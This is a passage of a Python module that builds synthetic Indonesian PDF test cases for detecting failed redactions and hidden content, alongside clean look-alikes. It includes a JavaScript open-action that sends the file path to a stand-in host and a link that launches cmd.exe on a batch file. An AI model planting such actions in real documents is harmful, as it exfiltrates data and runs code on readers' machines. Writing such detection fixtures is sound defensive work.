"""PDF files: what a page hides and a copy of its text, or a look into the file, brings out."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
from cases import (
    CUNNING,
    CURIOUS,
    DRAFTS,
    EDITOR,
    INTERNAL,
    JOURNALIST,
    PLAIN,
    REQUESTERS,
    SYSTEMS,
    Making,
    clean,
    leak,
)
from images import photo, with_place
from papers import (
    INVISIBLE,
    Box,
    Paper,
    add,
    annotate,
    changed,
    field,
    font,
    layer,
    letter,
    literal,
    look,
    reread,
    resaved,
    revised,
    scanned,
    shown,
    stream_body,
)
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, OutlineItem, Pdf, String
from PIL import Image, ImageDraw
from reportlab.lib.colors import Color, black, white
from reportlab.lib.pagesizes import A4, landscape

_NAVY = Color(0.1, 0.15, 0.35)
_PALE = Color(0.9, 0.9, 0.9)


def _covered(its: Making, cover: Callable[[Paper, Box], None], *, color: Color = black) -> bytes:
    """A letter in which one paragraph has been covered."""
    paper = Paper(its).prose(2)
    box = paper.say(its.whisper(), color=color)
    cover(paper, box)
    return paper.prose(1).sign().done()


def _twice(its: Making, draw: Callable[[Paper], None], spoil: Callable[[Image.Image], None] | None = None) -> bytes:
    """A scan of what is drawn, with what is drawn as its OCR layer."""
    state = its.rng.getstate()
    paper = Paper(its, head=False)
    draw(paper)
    image = scanned(paper.done(), noise=211)
    if spoil:
        spoil(image)
    its.rng.setstate(state)
    layer_paper = Paper(its, head=False, ink=False)
    layer_paper.picture(reread(image), Box(x=0, y=0, w=layer_paper.width, h=layer_paper.height))
    draw(layer_paper)
    return layer_paper.done()


# ------------------------------------------------------------------ plain leaks
@leak("pdf", PLAIN, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_black_box(its: Making) -> bytes:
    """A black box was drawn over the sentence about a person; the text below can be selected and copied."""
    return _covered(its, lambda paper, box: paper.fill(box))


@leak("pdf", PLAIN, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_white_box(its: Making) -> bytes:
    """The sentence was whited out with a white rectangle and is still there."""
    return _covered(its, lambda paper, box: paper.fill(box, white))


@leak("pdf", PLAIN, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_marker_stroke(its: Making) -> bytes:
    """The lines were struck with a thick black pen stroke, not a rectangle; the letters are still there."""

    def cover(paper: Paper, box: Box) -> None:
        paper.c.setLineWidth(box.h + 4)
        paper.c.line(box.x - 2, box.y + box.h / 2, box.x + box.w + 2, box.y + box.h / 2)

    return _covered(its, cover)


@leak("pdf", PLAIN, "text-under-image", ".pdf", asset=REQUESTERS)
def pdf_picture_over_text(its: Making) -> bytes:
    """A picture was laid over the sentence."""

    def cover(paper: Paper, box: Box) -> None:
        picture = Image.effect_mandelbrot((200, 40), (-2, -1, 1, 1), 40).convert("RGB")
        paper.picture(picture, Box(x=box.x - 2, y=box.y - 2, w=box.w + 4, h=box.h + 4))

    return _covered(its, cover)


@leak("pdf", PLAIN, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_white_text(its: Making) -> bytes:
    """An internal remark in white letters on the white page."""
    paper = Paper(its).prose(2)
    paper.say(its.whisper(), color=white)
    return paper.prose(1).sign().done()


@leak("pdf", PLAIN, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_tiny_text(its: Making) -> bytes:
    """An internal remark in letters of a third of a point."""
    paper = Paper(its).prose(3)
    paper.say(its.whisper(), size=0.3)
    return paper.sign().done()


@leak("pdf", PLAIN, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_invisible_mode(its: Making) -> bytes:
    """Text in rendering mode 3 on a page that is no scan."""
    paper = Paper(its).prose(2)
    paper.say(its.whisper(), mode=INVISIBLE)
    return paper.prose(1).sign().done()


@leak("pdf", PLAIN, "off-page-text", ".pdf", asset=INTERNAL)
def pdf_beside_the_page(its: Making) -> bytes:
    """A remark written to the right of the sheet's edge."""
    paper = Paper(its).prose(3)
    paper.put(its.whisper(), paper.width + 60, 400)
    return paper.sign().done()


@leak("pdf", PLAIN, "cropped-away", ".pdf", asset=REQUESTERS)
def pdf_cropped_away(its: Making) -> bytes:
    """The page was cropped to hide its last paragraph, which is still in the file."""
    paper = Paper(its).prose(3)
    edge = paper.y + 12
    paper.say(its.whisper())
    content = paper.done()

    def crop(pdf: Pdf) -> None:
        pdf.pages[0].cropbox = Array([0, edge, 595, 842])

    return changed(content, crop)


@leak("pdf", PLAIN, "layer-off", ".pdf", asset=INTERNAL)
def pdf_layer_off(its: Making) -> bytes:
    """A layer named Catatan is switched off; who switches it on reads it."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        group = layer(pdf, "Catatan", on=False)
        add(pdf, b"/OC /Cat BDC\n" + shown(said, 56, 150, 10) + b"EMC\n", Properties={"/Cat": group})

    return changed(letter(its), change)


@leak("pdf", PLAIN, "annotation", ".pdf", asset=INTERNAL)
def pdf_sticky_note(its: Making) -> bytes:
    """A sticky note of a reviewer."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        note = Dictionary(
            Subtype=Name.Text, Rect=[520, 700, 540, 720], Contents=said, Name=Name.Comment, F=4, T=its.official().name
        )
        annotate(pdf, note)

    return changed(letter(its), change)


@leak("pdf", PLAIN, "box-annotation", ".pdf", asset=REQUESTERS)
def pdf_box_annotation(its: Making) -> bytes:
    """The black box is a drawing annotation that any reader can move aside."""
    paper = Paper(its).prose(2)
    box = paper.say(its.whisper())
    content = paper.sign().done()

    def change(pdf: Pdf) -> None:
        place = [box.x - 2, box.y - 2, box.x + box.w + 2, box.y + box.h + 2]
        drawn = look(pdf, box.w + 4, box.h + 4, b"0 g 0 0 %.1f %.1f re f\n" % (box.w + 4, box.h + 4))
        annotate(
            pdf, Dictionary(Subtype=Name.Square, Rect=place, IC=[0, 0, 0], C=[0, 0, 0], F=4, AP=Dictionary(N=drawn))
        )

    return changed(content, change)


@leak("pdf", PLAIN, "redaction-not-applied", ".pdf", asset=REQUESTERS)
def pdf_redaction_not_applied(its: Making) -> bytes:
    """The passage was marked for redaction, but the redaction was never applied."""
    paper = Paper(its).prose(2)
    box = paper.say(its.whisper())
    content = paper.sign().done()

    def change(pdf: Pdf) -> None:
        place = [box.x, box.y, box.x + box.w, box.y + box.h]
        annotate(pdf, Dictionary(Subtype=Name.Redact, Rect=place, IC=[0, 0, 0], F=4, OverlayText="DIHITAMKAN"))

    return changed(content, change)


@leak("pdf", PLAIN, "hidden-field", ".pdf", asset=REQUESTERS)
def pdf_hidden_field(its: Making) -> bytes:
    """A form field with the hidden flag still holds what the requester filled in."""
    said = its.whisper()
    return changed(letter(its), lambda pdf: field(pdf, "catatan_petugas", said, y=120, flags=2))


@leak("pdf", PLAIN, "attachment", ".pdf")
def pdf_attached_list(its: Making) -> bytes:
    """A list of people with their NIK is attached to the file."""
    rows = "".join(f"{one.name};{its.keep(one.nik)};{one.address}\n" for one in (its.person() for _ in range(6)))

    def change(pdf: Pdf) -> None:
        data = b"nama;nik;alamat\n" + rows.encode()
        pdf.attachments["penerima.csv"] = AttachedFileSpec(pdf, data, filename="penerima.csv", mime_type="text/csv")

    return changed(letter(its), change)


@leak("pdf", PLAIN, "earlier-revision", ".pdf", asset=REQUESTERS, adversary=JOURNALIST)
def pdf_earlier_revision(its: Making) -> bytes:
    """The sentence was taken out and the file saved incrementally: the version before is in the file."""
    state = its.rng.getstate()
    paper = Paper(its).prose(2)
    paper.say(its.whisper())
    content = resaved(paper.done(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    its.rng.setstate(state)
    later = Paper(its).prose(2)
    later.say("[dihitamkan]")
    with Pdf.open(io.BytesIO(content)) as old, Pdf.open(io.BytesIO(later.done())) as new:
        number = old.pages[0].obj.Contents.objgen[0]
        body = stream_body(new.pages[0].obj.Contents.read_bytes())
    return revised(content, {number: body})


@leak("pdf", PLAIN, "metadata", ".pdf")
def pdf_metadata(its: Making) -> bytes:
    """The document's title and keywords name the reporter and the NIK."""
    someone = its.person()
    its.keep(someone.nik)

    def change(pdf: Pdf) -> None:
        pdf.docinfo["/Title"] = f"Aduan {someone.name} NIK {someone.nik}"
        pdf.docinfo["/Keywords"] = f"aduan, {someone.name}, {someone.nik}"

    return changed(letter(its), change)


@leak("pdf", PLAIN, "script", ".pdf", asset=SYSTEMS, adversary=EDITOR)
def pdf_javascript(its: Making) -> bytes:
    """A script runs when the file is opened and sends the reader somewhere."""
    code = its.keep('app.launchURL("http://pengumpul.example/?d=" + this.path, true);')

    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)

    return changed(letter(its), change)


@leak("pdf", PLAIN, "launch-action", ".pdf", asset=SYSTEMS, adversary=EDITOR)
def pdf_launch(its: Making) -> bytes:
    """A link starts a program on the reader's machine."""
    program = its.keep("cmd.exe /c start pemutakhiran.bat")

    def change(pdf: Pdf) -> None:
        action = Dictionary(S=Name.Launch, F=program)
        annotate(pdf, Dictionary(Subtype=Name.Link, Rect=[56, 90, 200, 110], A=action, Border=[0, 0, 0]))

    return changed(letter(its), change)


@leak("pdf", PLAIN, "encrypted", ".pdf", asset=REQUESTERS)
def pdf_password(its: Making) -> bytes:
    """Opens only with a password: nobody can check it, and the readers cannot read it."""
    paper = Paper(its).prose(2)
    paper.say(its.whisper())
    its.password = "inspektorat-2024"  # noqa: S105
    how = pikepdf.Encryption(owner="pemilik-2024", user=its.password, R=3, aes=False, metadata=False)
    return resaved(paper.done(), encryption=how, deterministic_id=False, static_id=True)


# ------------------------------------------------------------------ cunning leaks
@leak("pdf", CUNNING, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_half_a_word(its: Making) -> bytes:
    """The box begins in the middle of the name: half of it is read, the other half is copied."""
    paper = Paper(its).prose(2)
    someone = its.person()
    its.keep(someone.name)
    said = f"Terlapor bernama {someone.name} diperiksa pada hari Senin."
    box = paper.say(said)
    before = paper.c.stringWidth(said[: said.index(someone.name) + 3], "Helvetica", 11)
    wide = paper.c.stringWidth(someone.name[3:], "Helvetica", 11)
    paper.fill(Box(x=box.x + before, y=box.y, w=wide, h=box.h), grow=0)
    return paper.prose(1).sign().done()


@leak("pdf", CUNNING, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_box_on_a_turned_page(its: Making) -> bytes:
    """A page turned sideways for display, with a grey box over the text."""
    content = _covered(its, lambda paper, box: paper.fill(box, Color(0.4, 0.4, 0.4)))

    def turn(pdf: Pdf) -> None:
        pdf.pages[0].rotate(90, relative=False)

    return changed(content, turn)


@leak("pdf", CUNNING, "text-under-box", ".pdf", asset=REQUESTERS)
def pdf_pattern_box(its: Making) -> bytes:
    """The cover is no rectangle operator but a form object that paints a tiling pattern."""
    paper = Paper(its).prose(2)
    box = paper.say(its.whisper())
    content = paper.prose(1).done()

    def change(pdf: Pdf) -> None:
        tile = pdf.make_stream(
            b"0 g 0 0 4 4 re f",
            PatternType=1,
            PaintType=1,
            TilingType=1,
            BBox=[0, 0, 4, 4],
            XStep=4,
            YStep=4,
            Resources=Dictionary(),
        )
        form = pdf.make_stream(
            b"/Pattern cs /P1 scn 0 0 m 600 0 l 600 100 l 0 100 l f",
            Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, box.w + 4, box.h + 4], Resources=Dictionary(Pattern=Dictionary(P1=tile)),
        )  # fmt: skip
        add(pdf, b"1 0 0 1 %.1f %.1f cm /Tutup Do\n" % (box.x - 2, box.y - 2), XObject={"/Tutup": form})

    return changed(content, change)


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_same_colour_as_its_ground(its: Making) -> bytes:
    """Navy letters inside a navy heading bar."""
    paper = Paper(its).prose(2)
    paper.y -= 10
    paper.fill(Box(x=50, y=paper.y - 24, w=490, h=44), _NAVY)
    paper.put("RINGKASAN HASIL", 60, paper.y + 5, face="Helvetica-Bold", color=white)
    paper.put(its.whisper(), 60, paper.y - 14, size=10, color=_NAVY)
    paper.y -= 40
    return paper.prose(1).sign().done()


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_nearly_white_text(its: Making) -> bytes:
    """Letters of 99 percent white: no eye sees them."""
    paper = Paper(its).prose(2)
    paper.say(its.whisper(), color=Color(0.992, 0.992, 0.992))
    return paper.prose(1).sign().done()


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_transparent_text(its: Making) -> bytes:
    """Letters painted with an opacity of nought."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        add(pdf, b"/Bening gs\n" + shown(said, 56, 130), ExtGState={"/Bening": Dictionary(ca=0, CA=0)})

    return changed(letter(its), change)


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_clipped_text(its: Making) -> bytes:
    """Letters outside the clipping path they are drawn under."""
    said = its.whisper()
    return changed(letter(its), lambda pdf: add(pdf, b"20 20 5 5 re W n\n" + shown(said, 56, 130)))


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=INTERNAL)
def pdf_squeezed_text(its: Making) -> bytes:
    """Letters squeezed to a hair's breadth by a text matrix, at the end of a line."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        add(pdf, b"BT /Xf 11 Tf .002 0 0 .002 300 160 Tm %b Tj ET\n" % literal(said))

    return changed(letter(its), change)


@leak("pdf", CUNNING, "ocr-differs", ".pdf", asset=REQUESTERS, adversary=CURIOUS)
def pdf_scan_blackened_after_ocr(its: Making) -> bytes:
    """The scan was blackened in a picture editor after text recognition: the name is still in the text layer."""
    spots: list[Box] = []

    def draw(paper: Paper) -> None:
        paper.prose(3)
        spots.append(paper.say(its.whisper()))
        paper.prose(2)

    def spoil(image: Image.Image) -> None:
        box, scale = spots[0], 150 / 72
        place = [
            (box.x - 2) * scale,
            image.height - (box.y + box.h + 2) * scale,
            (box.x + box.w + 2) * scale,
            image.height - (box.y - 2) * scale,
        ]
        ImageDraw.Draw(image).rectangle(place, fill=0)

    return _twice(its, draw, spoil)


@leak("pdf", CUNNING, "box-over-scan", ".pdf", asset=REQUESTERS, adversary=CURIOUS)
def pdf_box_over_a_scan(its: Making) -> bytes:
    """A black box lies over a scan without text: the picture below is whole and can be taken out."""
    paper = Paper(its, head=False).prose(3)
    paper.fill(Box(x=56, y=paper.y, w=1, h=1))
    box = paper.say(its.whisper())
    image = scanned(paper.prose(2).done(), noise=197)
    shell = Paper(its, head=False)
    shell.picture(reread(image), Box(x=0, y=0, w=shell.width, h=shell.height))
    shell.fill(box, grow=3)
    its.secrets[:] = ["pixels:picture under a box"]
    return shell.done()


@leak("pdf", CUNNING, "actual-text", ".pdf", asset=REQUESTERS, adversary=CURIOUS)
def pdf_actual_text(its: Making) -> bytes:
    """The page shows asterisks; what a reader copies is the ActualText behind them."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        hidden = String(said).unparse()
        add(pdf, b"/Span <</ActualText %b>> BDC\n" % hidden + shown("*" * 40, 56, 140) + b"EMC\n")

    return changed(letter(its), change)


def _lettering(pdf: Pdf, text: str, glyph: Callable[[str], bytes]) -> Dictionary:
    """A font of drawn glyphs for the letters of a text, and what each of them is copied as."""
    letters = sorted(set(text))
    codes = {letter: 33 + place for place, letter in enumerate(letters)}
    rows = "\n".join(f"<{code:02X}> <{ord(letter):04X}>" for letter, code in codes.items())
    table = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
        f"1 begincodespacerange <00> <FF> endcodespacerange\n{len(codes)} beginbfchar\n{rows}\nendbfchar\nendcmap end end"
    )
    return Dictionary(
        Type=Name.Font,
        Subtype=Name.Type3,
        FontBBox=[0, -200, 700, 900],
        FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
        CharProcs=Dictionary({f"/g{code}": pdf.make_stream(glyph(letter)) for letter, code in codes.items()}),
        Encoding=Dictionary(
            Type=Name.Encoding, Differences=Array([33, *(Name(f"/g{code}") for code in codes.values())])
        ),
        FirstChar=33,
        LastChar=32 + len(codes),
        Widths=Array([700] * len(codes)),
        Resources=Dictionary(),
        ToUnicode=pdf.make_stream(table.encode()),
    )


def _coded(text: str) -> bytes:
    letters = sorted(set(text))
    return b"<" + "".join(f"{33 + letters.index(letter):02X}" for letter in text).encode() + b">"


@leak("pdf", CUNNING, "invisible-text", ".pdf", asset=REQUESTERS, adversary=EDITOR)
def pdf_glyphs_without_ink(its: Making) -> bytes:
    """A font whose letters paint nothing, but are copied as letters."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        face = pdf.make_indirect(_lettering(pdf, said, lambda _: b"700 0 d0\n"))
        add(pdf, b"BT /Kosong 8 Tf 56 140 Td %b Tj ET\n" % _coded(said), Font={"/Kosong": face})

    return changed(letter(its), change)


@leak("pdf", CUNNING, "redaction-font", ".pdf", asset=REQUESTERS, adversary=EDITOR)
def pdf_glyphs_that_are_blocks(its: Making) -> bytes:
    """Each letter of the name is drawn as a black block by the font, and is copied as the letter."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        face = pdf.make_indirect(_lettering(pdf, said, lambda _: b"700 0 0 -200 700 900 d1 0 -200 700 1100 re f\n"))
        add(pdf, b"BT /Blok 8 Tf 56 140 Td %b Tj ET\n" % _coded(said), Font={"/Blok": face})

    return changed(letter(its), change)


@leak("pdf", CUNNING, "layer-off", ".pdf", asset=INTERNAL)
def pdf_nested_layer(its: Making) -> bytes:
    """The layer is off by the base state, and belongs to a form object, not to the page's own text."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        group = layer(pdf, "Lapis 7", on=False)
        pdf.Root.OCProperties.D.BaseState = Name.OFF
        del pdf.Root.OCProperties.D.OFF
        member = pdf.make_indirect(Dictionary(Type=Name.OCMD, OCGs=Array([group]), P=Name.AllOn))
        form = look(pdf, 500, 20, shown(said, 0, 5, 10))
        form.OC = member
        add(pdf, b"1 0 0 1 56 140 cm /Sisip Do\n", XObject={"/Sisip": pdf.make_indirect(form)})

    return changed(letter(its), change)


@leak("pdf", CUNNING, "metadata", ".pdf", asset=REQUESTERS)
def pdf_xmp_description(its: Making) -> bytes:
    """The XMP packet describes what the letter is really about; the ordinary properties say nothing."""
    said = its.whisper()
    xmp = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">{said}</rdf:li>'
        '</rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )

    def change(pdf: Pdf) -> None:
        pdf.Root.Metadata = pdf.make_stream(xmp.encode(), Type=Name.Metadata, Subtype=Name.XML)

    return changed(letter(its), change)


@leak("pdf", CUNNING, "outline", ".pdf", asset=REQUESTERS)
def pdf_bookmark(its: Making) -> bytes:
    """A bookmark quotes the heading of the uncensored draft."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        with pdf.open_outline() as outline:
            outline.root.extend([OutlineItem("Pendahuluan", 0), OutlineItem(said, 0)])

    return changed(letter(its), change)


@leak("pdf", CUNNING, "orphan-content", ".pdf", asset=DRAFTS, adversary=JOURNALIST)
def pdf_page_taken_out(its: Making) -> bytes:
    """The second page was taken out of the page list, but its content is still in the file."""
    paper = Paper(its).prose(2).turn()
    paper.say(its.whisper())
    content = resaved(paper.done(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with Pdf.open(io.BytesIO(content)) as pdf:
        number = pdf.Root.Pages.objgen[0]
        first = pdf.pages[0].obj.objgen[0]
    old = content.index(b"\n%d 0 obj" % number) + 1
    end = content.index(b"endobj", old)
    body = b"%d 0 obj\n<</Count 1/Kids[%d 0 R]/Type/Pages>>\n" % (number, first)
    return content[:old] + body.ljust(end - old) + content[end:]


@leak("pdf", CUNNING, "private-data", ".pdf", asset=DRAFTS)
def pdf_piece_info(its: Making) -> bytes:
    """The drawing program keeps its own copy of the page, with the words that were taken out."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        own = pdf.make_stream(b"%AI5_FileFormat 14.0\n(" + said.encode() + b") Tx\n")
        pdf.pages[0].obj.PieceInfo = Dictionary(
            Illustrator=Dictionary(LastModified="D:20240305093000", Private=Dictionary(AIPrivateData1=own))
        )

    return changed(letter(its), change)


@leak("pdf", CUNNING, "attachment", ".pdf", asset=REQUESTERS)
def pdf_file_annotation(its: Making) -> bytes:
    """A paper clip in the margin holds the PDF as it was before it was blackened, itself with a covered name."""
    inner = _covered(its, lambda paper, box: paper.fill(box))

    def change(pdf: Pdf) -> None:
        data = AttachedFileSpec(pdf, inner, filename="naskah-asli.pdf", mime_type="application/pdf")
        annotate(
            pdf,
            Dictionary(Subtype=Name.FileAttachment, Rect=[540, 760, 555, 775], FS=data.obj, F=2, Name=Name.Paperclip),
        )

    return changed(letter(its), change)


@leak("pdf", CUNNING, "earlier-revision", ".pdf", asset=REQUESTERS, adversary=JOURNALIST)
def pdf_earlier_revision_in_streams(its: Making) -> bytes:
    """An earlier version whose page text is in compressed objects; the update has a cross-reference stream."""
    state = its.rng.getstate()
    paper = Paper(its).prose(2)
    paper.say(its.whisper())
    content = resaved(paper.done(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    its.rng.setstate(state)
    later = Paper(its).prose(2).sign()
    with Pdf.open(io.BytesIO(content)) as old, Pdf.open(io.BytesIO(later.done())) as new:
        number = old.pages[0].obj.Contents.objgen[0]
        body = stream_body(new.pages[0].obj.Contents.read_bytes())
    return revised(content, {number: body}, stream=True)


@leak("pdf", CUNNING, "hidden-field", ".pdf", asset=REQUESTERS)
def pdf_field_shown_as_nothing(its: Making) -> bytes:
    """A field on the page whose appearance is empty: its value comes with the file, not with the print."""
    said = its.whisper()
    return changed(letter(its), lambda pdf: field(pdf, "uraian_rahasia", said, y=120))


@leak("pdf", CUNNING, "hidden-field", ".pdf", asset=REQUESTERS)
def pdf_choices_of_a_list(its: Making) -> bytes:
    """A drop-down list whose choices are the reporters of the year."""
    names = [its.keep(its.person().name) for _ in range(4)]

    def change(pdf: Pdf) -> None:
        field(pdf, "pelapor", "", y=120)
        widget = pdf.pages[0].obj.Annots[-1]
        widget.FT = Name.Ch
        widget.Ff = 1 << 17
        widget.Opt = Array([String(f"Pelapor: {name}") for name in names])

    return changed(letter(its), change)


@leak("pdf", CUNNING, "xfa", ".pdf", asset=REQUESTERS)
def pdf_xfa_data(its: Making) -> bytes:
    """The page is a plain notice; the XFA part of the form holds the data of the last who filled it in."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        field(pdf, "nomor", "", y=120)
        data = f'<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><aduan><isi>{said}</isi></aduan></xfa:data></xfa:datasets>'
        pdf.Root.AcroForm.XFA = Array([String("datasets"), pdf.make_stream(data.encode())])

    return changed(letter(its), change)


@leak("pdf", CUNNING, "tag-tree", ".pdf", asset=REQUESTERS, adversary=CURIOUS)
def pdf_alternative_text(its: Making) -> bytes:
    """The figure is blackened; its alternative text in the tag tree still describes who is on it."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        add(pdf, b"/Figure <</MCID 0>> BDC 0 g 56 90 200 60 re f EMC\n")
        root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
        figure = Dictionary(Type=Name.StructElem, S=Name.Figure, P=root, Pg=pdf.pages[0].obj, K=0, Alt=said)
        root.K = Array([pdf.make_indirect(figure)])
        pdf.Root.StructTreeRoot = root
        pdf.Root.MarkInfo = Dictionary(Marked=True)

    return changed(letter(its), change)


@leak("pdf", CUNNING, "annotation", ".pdf", asset=INTERNAL)
def pdf_hidden_annotation(its: Making) -> bytes:
    """A highlight that looks innocent has a hidden pop-up with the reviewer's words."""
    said = its.whisper()

    def change(pdf: Pdf) -> None:
        mark = Dictionary(
            Subtype=Name.Highlight, Rect=[56, 600, 300, 615], QuadPoints=[56, 615, 300, 615, 56, 600, 300, 600], C=[1, 1, 0], F=4, Contents="",
            AP=Dictionary(N=look(pdf, 244, 15, b"")),
        )  # fmt: skip
        annotate(pdf, mark)
        mark = pdf.pages[0].obj.Annots[-1]
        annotate(pdf, Dictionary(Subtype=Name.Popup, Rect=[400, 500, 560, 600], Parent=mark, F=2, Open=False))
        annotate(
            pdf,
            Dictionary(
                Subtype=Name.FreeText, Rect=[0, 0, 1, 1], F=2, RC=f"<body><p>{said}</p></body>", DA="/Helv 1 Tf"
            ),
        )

    return changed(letter(its), change)


@leak("pdf", CUNNING, "image-place", ".pdf")
def pdf_photo_with_gps(its: Making) -> bytes:
    """The photo of a beneficiary's house on the page still carries the coordinates of the house."""
    its.keep("gps:exif")
    picture = with_place(its, photo(its))

    def change(pdf: Pdf) -> None:
        image = Image.open(io.BytesIO(picture))
        stream = pdf.make_stream(
            picture, Type=Name.XObject, Subtype=Name.Image, Width=image.width, Height=image.height, ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )  # fmt: skip
        add(pdf, b"240 0 0 160 56 100 cm /Foto Do\n", XObject={"/Foto": stream})

    return changed(letter(its, 2), change)


@leak("pdf", CUNNING, "off-page-text", ".pdf", asset=INTERNAL)
def pdf_text_in_the_bleed(its: Making) -> bytes:
    """The sheet is cut down by its crop box on a page turned by 180 degrees; a remark stands in what is cut off."""
    paper = Paper(its).prose(3).sign()
    paper.put(its.whisper(), 56, 812, size=9)
    content = paper.done()

    def change(pdf: Pdf) -> None:
        pdf.pages[0].cropbox = Array([10, 10, 585, 800])
        pdf.pages[0].rotate(180, relative=False)

    return changed(content, change)


# ------------------------------------------------------------------ clean look-alikes
def _table(
    paper: Paper, rows: list[tuple[str, ...]], *, head: Color = _NAVY, zebra: Color = _PALE, ink: Color = white
) -> None:
    wide = (paper.width - 112) / len(rows[0])
    for number, row in enumerate(rows):
        paper.y -= 18
        ground = head if number == 0 else zebra if number % 2 == 0 else white
        paper.fill(Box(x=56, y=paper.y - 5, w=wide * len(row), h=17), ground, grow=0)
        for place, cell in enumerate(row):
            paper.put(cell, 60 + place * wide, paper.y, size=9, color=ink if number == 0 else black)
    paper.y -= 24


def _figures(its: Making, count: int = 9) -> list[tuple[str, ...]]:
    rows = [("No", "Uraian", "Pagu (Rp)", "Realisasi (Rp)")]
    rows += [
        (
            str(number),
            f"Subkegiatan {number}",
            f"{its.rng.randint(90, 900)}.000.000",
            f"{its.rng.randint(50, 90)}.500.000",
        )
        for number in range(1, count)
    ]
    return rows


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_shaded_table(its: Making) -> bytes:
    """A table with grey and white rows: the boxes are below the text."""
    paper = Paper(its).prose(1)
    _table(paper, _figures(its))
    return paper.sign().done()


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_coloured_panels(its: Making) -> bytes:
    """Dark and bright panels behind paragraphs, drawn before the text."""
    paper = Paper(its)
    for ground, ink in ((_NAVY, white), (Color(1, 0.9, 0.5), black), (Color(0.1, 0.5, 0.3), white)):
        top = paper.y
        paper.fill(Box(x=50, y=top - 42, w=500, h=60), ground, grow=0)
        paper.say(its.prose(1)[0][:150], color=ink, size=10)
        paper.y = top - 70
    return paper.sign().done()


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_bars(its: Making) -> bytes:
    """Black bars as ornament, and a black form border; nothing is under them."""
    paper = Paper(its).prose(1)
    for _ in range(4):
        paper.y -= 20
        paper.fill(Box(x=56, y=paper.y, w=480, h=12))
    paper.y -= 30
    paper.c.setLineWidth(3)
    paper.c.rect(50, paper.y - 90, 490, 100)
    return paper.prose(1).done()


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_really_redacted(its: Making) -> bytes:
    """Black boxes where the words were taken out before they were drawn, as a right redaction is."""
    paper = Paper(its).prose(1)
    paper.put("Pelapor", 56, paper.y)
    paper.fill(Box(x=100, y=paper.y - 2, w=130, h=12), grow=0)
    paper.put("telah diperiksa sebagai saksi.", 236, paper.y)
    paper.y -= 18
    paper.say("Keterangan: bagian yang dihitamkan dikecualikan menurut Pasal 17 huruf a UU 14/2008.", size=9)
    return paper.prose(2).sign().done()


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_highlight(its: Making) -> bytes:
    """A yellow marker drawn over the words, transparent: the words show through."""
    paper = Paper(its).prose(1)
    box = paper.say(its.prose(1)[0])
    content = paper.sign().done()

    def change(pdf: Pdf) -> None:
        state = Dictionary(ca=0.4, BM=Name.Multiply)
        add(
            pdf,
            b"/Kuning gs 1 1 0 rg %.1f %.1f %.1f %.1f re f\n" % (box.x, box.y, box.w, box.h),
            ExtGState={"/Kuning": state},
        )

    return changed(content, change)


@clean("pdf", "text-under-box", ".pdf")
def pdf_clean_struck_through(its: Making) -> bytes:
    """Choices struck through with a thin line, and underlined ones, as forms have them."""
    paper = Paper(its).prose(1)
    for text in ("Perorangan / Badan Hukum *)", "Mengambil langsung / Kurir / Pos / Surel *)"):
        box = paper.say(text)
        paper.c.setLineWidth(0.8)
        paper.c.line(box.x, box.y + box.h * 0.5, box.x + box.w * 0.4, box.y + box.h * 0.5)
        paper.c.rect(box.x + box.w * 0.5, box.y + 1, box.w * 0.4, 0.7, fill=1)
    return paper.sign().done()


@clean("pdf", "text-under-image", ".pdf")
def pdf_clean_text_on_a_picture(its: Making) -> bytes:
    """A cover page: white title letters over a dark photograph."""
    paper = Paper(its, head=False)
    picture = photo(its).point(lambda value: value // 3)
    paper.picture(reread(picture), Box(x=0, y=0, w=paper.width, h=paper.height))
    paper.put(paper.title.upper(), 60, 500, face="Helvetica-Bold", size=20, color=white)
